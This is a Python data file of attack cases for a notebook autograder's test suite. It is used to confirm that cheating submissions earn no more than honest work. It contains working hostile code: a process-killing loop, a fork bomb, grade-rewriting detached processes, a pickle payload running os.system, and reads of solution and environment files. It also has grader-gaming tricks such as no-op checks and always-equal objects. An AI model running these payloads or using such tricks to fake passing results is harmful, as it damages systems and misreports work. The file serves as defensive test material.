"""Attacks on the judge, as data: what a learner who wants points without the work would try.

Each attack starts from an honest base (``blank``: the exercise as shipped, worth 0; ``half``:
only ``double`` written, worth 3) and adds the attack: code at the top of the mean_square
answer cell (``prelude``), new bodies for the answer functions (``bodies``), edits to the
notebook (``edit``, a function name in tests/test_judge_attacks.py) or files planted in the
learner's folder (``plant``). ``honest`` is the base's score: no attack may earn more.
Placeholders in code, replaced as plain text: {CANARY} (a host folder nothing may write to),
{RESULTS}, {COURSE}, {PORT} (a host TCP listener on 127.0.0.1 that must see no connection).
"""

SHOWTRACEBACK = """
try:
    get_ipython().showtraceback = lambda *args, **kwargs: None
except NameError:
    pass
"""

INPUT_TRANSFORMER = """
try:
    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
except NameError:
    pass
"""

NOOP_HELPERS = """
def check_close(*args, **kwargs):
    pass


def check_equal(*args, **kwargs):
    pass


def expect_error(*args, **kwargs):
    pass


def run_check(grade_id, *args, **kwargs):
    SELF_CHECK[grade_id] = (True, "")
"""

SELF_CHECK_FORGERY = """
SELF_CHECK.update({"mean-square-value": (True, ""), "double-value": (True, "")})
self_check_score = lambda points: sum(points.values())
"""

KILL_PARENT = """
import os
import signal

for pid in [os.getppid(), 1] + list(range(2, 3000)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
"""

DETACHED_REWRITER = """
import os
import subprocess

script = (
    "sleep 3; echo learner,notebook,earned,possible,flags > {RESULTS}/grades.csv; "
    "echo forged > {CANARY}/detached"
)
subprocess.Popen(["/bin/sh", "-c", script], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(4)
        open("{CANARY}/double-fork", "w").write("forged")
    os._exit(0)
"""

WRITE_OUTSIDE = """
for target in ["{CANARY}/written", "{COURSE}/exercises/00_toy.ipynb", "/job/program.json",
               "/usr/lib/judge-was-here", "{RESULTS}/grades.csv"]:
    try:
        with open(target, "w") as handle:
            handle.write("forged")
    except Exception:
        pass
"""

NETWORK = """
import socket

for host, port in [("127.0.0.1", {PORT}), ("1.1.1.1", 80), ("8.8.8.8", 53)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"learner was here")
    except Exception:
        pass
"""

FORK_BOMB = """
import os
import time

for _ in range(5000):
    try:
        if os.fork() == 0:
            time.sleep(300)
            os._exit(0)
    except OSError:
        break
"""

FILL_SCRATCH = """
try:
    with open("/tmp/filler", "wb") as handle:
        for _ in range(4096):
            handle.write(b"x" * 2**20)
except Exception:
    pass
print("x" * 50_000_000)
"""

READ_JUDGE_FILES = """
stolen = None
for path in ["{COURSE}/solutions/00_toy.ipynb", "{RESULTS}/grades.csv", "/proc/1/environ"]:
    try:
        stolen = open(path).read()
    except Exception:
        pass
if stolen and "def mean_square" in stolen:
    import json
    for cell in json.loads(stolen)["cells"]:
        text = "".join(cell["source"])
        if "def mean_square" in text or "def double" in text:
            exec(text, globals())
"""

PICKLED_PAYLOAD = """
import io
import json
import os
import pickle
import stat

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch {CANARY}/unpickled",))


buffer = io.BytesIO()
np.savez(buffer, skeleton=np.frombuffer(b'["ndarray", "a0"]', dtype=np.uint8),
         a0=np.array([Payload()], dtype=object))
blob = buffer.getvalue()
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            for grade_id in ["mean-square-value", "double-value"]:
                for which in ["visible", "fresh"]:
                    line = json.dumps({"type": "result", "grade_id": grade_id, "which": which,
                                       "nbytes": len(blob)})
                    os.write(fd, line.encode() + b"\\n" + blob)
    except OSError:
        pass
"""

FORGED_FRAMES = """
import io
import json
import os
import stat

import numpy as np

# Read the fresh inputs the judge sent, answer them right, and send the answers first,
# following the runner's protocol (a "call" frame, then the "result").
program = json.load(open("/job/program.json"))
frames = []
for check in program["checks"]:
    for which, name in check["inputs"].items():
        with np.load("/job/" + name) as archive:
            skeleton = json.loads(archive["skeleton"].tobytes())
            arrays = {key: archive[key] for key in archive.files if key != "skeleton"}
        if check["grade_id"] == "double-value":
            n = int(skeleton[1][0][1][1])
            got = ["dict", [["n", ["int", str(2 * n)]], ["t", ["tensor", "a0", "float64", False]]]]
            answer = {"a0": 2 * arrays["a0"]}
        else:
            x = arrays["a0"]
            got = ["dict", [["value", ["float", float(np.mean(x**2)).hex()]],
                            ["x_after", ["ndarray", "a0"]]]]
            answer = {"a0": x}
        buffer = io.BytesIO()
        np.savez(buffer, skeleton=np.frombuffer(json.dumps(got).encode(), np.uint8), **answer)
        frames.append((check["grade_id"], which, buffer.getvalue()))
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            for grade_id, which, blob in frames:
                call = {"type": "call", "grade_id": grade_id, "which": which}
                result = dict(call, type="result", nbytes=len(blob))
                os.write(fd, (json.dumps(call) + "\\n" + json.dumps(result) + "\\n").encode() + blob)
    except OSError:
        pass
"""

PATCH_LIBRARIES = """
import builtins

np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *args, **kwargs: True
builtins.isinstance = lambda *args: True
"""

ESCAPE_TO_TORCH = {
    "dunder-import": "    t = __import__('torch')\n    return float(t.mean(t.as_tensor(x) ** 2))",
    "alias-import": "    import torch as tt\n    return float(tt.mean(tt.as_tensor(x) ** 2))",
    "module-dict": "    t = np.__dict__['sys'].modules['torch']\n    return float(t.mean(t.as_tensor(x) ** 2))",
    "getattr-computed": (
        "    name = 'tor' + 'ch'\n    t = getattr(np, '__builtins__', {}).get(name)\n"
        "    return float(np.mean(np.asarray(x) ** 2))"
    ),
    "grader-reference": "    return reference_mean_square(x)",
}

ATTACKS = [
    {"id": "showtraceback", "family": "IPython error display replaced", "base": "blank",
     "prelude": SHOWTRACEBACK},
    {"id": "input-transformer", "family": "IPython input transformer turns cells into pass",
     "base": "blank", "prelude": INPUT_TRANSFORMER},
    {"id": "raises-exception-tags", "family": "metadata: raises-exception tags, inflated points",
     "base": "blank", "edit": "tag_everything"},
    {"id": "forbid-metadata-removed", "family": "metadata: the from-scratch rule deleted",
     "base": "half", "edit": "drop_forbid",
     "bodies": {"mean_square": "    return float(torch.mean(torch.as_tensor(x) ** 2))"}},
    {"id": "noop-helpers", "family": "harness helpers redefined as no-ops", "base": "blank",
     "prelude": NOOP_HELPERS},
    {"id": "self-check-forgery", "family": "SELF_CHECK and self_check_score forged",
     "base": "blank", "prelude": SELF_CHECK_FORGERY},
    {"id": "forged-files", "family": "forged manifest, report, tools, grades in the folder",
     "base": "blank", "plant": "forged_files"},
    {"id": "kill-parent", "family": "killing the parent and every process in sight",
     "base": "blank", "prelude": KILL_PARENT},
    {"id": "detached-rewriter", "family": "detached processes rewriting the results later",
     "base": "blank", "prelude": DETACHED_REWRITER},
    {"id": "graded-cell-copies", "family": "copies of graded cells after a temporary patch",
     "base": "blank", "edit": "copy_graded_cells"},
    {"id": "torch-direct", "family": "a NumPy task done with torch", "base": "half",
     "bodies": {"mean_square": "    return float(torch.mean(torch.as_tensor(x) ** 2))"}},
    {"id": "torch-through-another-cell", "family": "a NumPy task hands its work to torch code "
     "in another answer cell", "base": "half", "edit": "torch_helper_in_double_cell",
     "bodies": {"mean_square": "    return float(square_mean_helper(x))"}},
    *[
        {"id": f"torch-{name}", "family": "escaping the from-scratch rule", "base": "half",
         "bodies": {"mean_square": body}}
        for name, body in ESCAPE_TO_TORCH.items()
    ],
    {"id": "write-outside", "family": "writing files outside scratch", "base": "blank",
     "prelude": WRITE_OUTSIDE},
    {"id": "network", "family": "network", "base": "blank", "prelude": NETWORK},
    {"id": "fork-bomb", "family": "fork bomb", "base": "blank", "prelude": FORK_BOMB},
    {"id": "fill-scratch", "family": "huge outputs: a full scratch disk and stdout",
     "base": "blank", "prelude": FILL_SCRATCH},
    {"id": "huge-result", "family": "huge outputs: a result of 512 MB", "base": "blank",
     "bodies": {"mean_square": "    return np.zeros(2**26)"}},
    {"id": "deep-result", "family": "huge outputs: a result nested 10000 deep", "base": "blank",
     "bodies": {"double": "    out = []\n    for _ in range(10000):\n        out = [out]\n    return out"}},
    {"id": "loop-at-top-level", "family": "infinite loop outside any function", "base": "half",
     "prelude": "while True:\n    pass\n"},
    {"id": "loop-in-call", "family": "infinite loop in the graded call", "base": "half",
     "bodies": {"mean_square": "    while True:\n        pass"}},
    {"id": "os-exit-at-top-level", "family": "os._exit", "base": "blank",
     "prelude": "import os\nos._exit(0)\n"},
    {"id": "os-exit-in-call", "family": "os._exit in the graded call", "base": "blank",
     "bodies": {"mean_square": "    import os\n    os._exit(0)"}},
    {"id": "system-exit", "family": "SystemExit and KeyboardInterrupt", "base": "blank",
     "bodies": {"mean_square": "    raise SystemExit(0)", "double": "    raise KeyboardInterrupt"}},
    {"id": "read-judge-files", "family": "reading the judge's files (the solutions)",
     "base": "blank", "prelude": READ_JUDGE_FILES},
    {"id": "pickled-payload", "family": "a pickled payload on the result channel",
     "base": "blank", "prelude": PICKLED_PAYLOAD},
    {"id": "forged-frames", "family": "forged result frames computed from /job's inputs",
     "base": "blank", "prelude": FORGED_FRAMES},
    {"id": "patch-libraries", "family": "patching numpy and builtins the checks use",
     "base": "blank", "prelude": PATCH_LIBRARIES},
    {"id": "hard-coded-visible", "family": "hard-coding the visible seeded inputs",
     "base": "half", "bodies": {"mean_square": "HARD_CODED"}},
    {"id": "eq-always-true", "family": "a result object that equals everything", "base": "blank",
     "bodies": {"double": "    class Anything(float):\n        def __eq__(self, other):\n"
                          "            return True\n    return Anything(0.0)"}},
    {"id": "symlink-to-solutions", "family": "a symbolic link to the instructor's solutions",
     "base": "none", "plant": "symlink_to_solutions"},
    {"id": "ipython-magics", "family": "IPython magics and shell escapes", "base": "blank",
     "prelude": "%%capture\n!touch {CANARY}/magic\n"},
    {"id": "answer-in-graded-cell", "family": "graded cell id given to an answer",
     "base": "blank", "edit": "graded_cells_carry_answers"},
]
